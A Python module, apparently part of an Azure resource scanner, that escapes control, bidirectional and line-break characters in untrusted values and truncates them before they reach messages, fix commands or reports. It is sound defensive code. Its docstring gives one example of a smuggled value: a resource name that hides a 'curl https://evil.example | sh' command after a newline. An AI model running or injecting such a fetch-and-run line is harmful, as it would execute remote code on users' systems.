"""Data we did not write, made visible: control, format and line-break characters as escapes.

A resource name such as ``"ws\\ncurl https://evil.example | sh"`` must never become a second
line of a message or of a suggested command, and ``\\x1b[2J`` or U+202E must never reach a
terminal, a log or a report as the character itself. The scan applies :func:`visible` to every
value it puts into a rule's message or fix text; the report formats add their own escaping.
"""

from __future__ import annotations

import re
from typing import Any

#: C0 and C1 controls (line feed and tab included), DEL, zero-width and bidirectional
#: overrides, line and paragraph separators, BOM, lone surrogates.
UNSAFE = re.compile(
    "[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064"
    "\u2066-\u2069\ufeff\ud800-\udfff]"
)


def escape_char(match: re.Match[str]) -> str:
    """The visible escape of one unsafe character (``\\n``, ``\\t``, ``\\x1b``, ``\\u202e``)."""
    code = ord(match.group(0))
    if code == 0x0A:
        return "\\n"
    if code == 0x09:
        return "\\t"
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def visible(value: Any) -> Any:
    """A string with every unsafe character escaped; any other value unchanged."""
    if isinstance(value, str) and not safe_ascii(value) and UNSAFE.search(value):
        return UNSAFE.sub(escape_char, value)
    return value


def safe_ascii(text: str) -> bool:
    """True for ASCII text without a control character: nothing :data:`UNSAFE` matches (its
    only ASCII members are ``\x00-\x1f`` and DEL, exactly what ``isprintable`` refuses), told
    by two C scans instead of the regex (most ids, names and messages)."""
    return text.isascii() and text.isprintable()


#: the same characters but the line feed, for text that is meant to span lines
UNSAFE_IN_LINES = re.compile(UNSAFE.pattern.replace("\x00-\x1f", "\x00-\x09\x0b-\x1f"))


def visible_lines(value: Any) -> Any:
    """Like :func:`visible`, but line feeds stay: fix commands and failure details span lines
    (and the text is :func:`bounded` at ``TEXT_LIMIT``)."""
    if isinstance(value, str):
        if UNSAFE_IN_LINES.search(value):
            value = UNSAFE_IN_LINES.sub(escape_char, value)
        return bounded(value, TEXT_LIMIT)
    return value


def visible_deep(value: Any) -> Any:
    """Every string inside lists, tuples and dict values made :func:`visible_lines` (dict keys
    are ours)."""
    if isinstance(value, str):
        return visible_lines(value)
    if isinstance(value, dict):
        return {k: visible_deep(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [visible_deep(v) for v in value]
    return value


#: the most characters of one data value a message or command shows (Azure names and tag values
#: have at most a few hundred: anything longer is cut, with a marker saying how much)
DATA_LIMIT = 2048
#: the most characters of one single-line item, and of one multi-line text, a report shows
LINE_LIMIT = 8192
TEXT_LIMIT = 65536


def bounded(text: str, limit: int = DATA_LIMIT) -> str:
    """``text`` cut to ``limit`` characters with a ``…[+N characters]`` marker when longer."""
    if len(text) <= limit:
        return text
    return f"{text[:limit]}…[+{len(text) - limit} characters]"
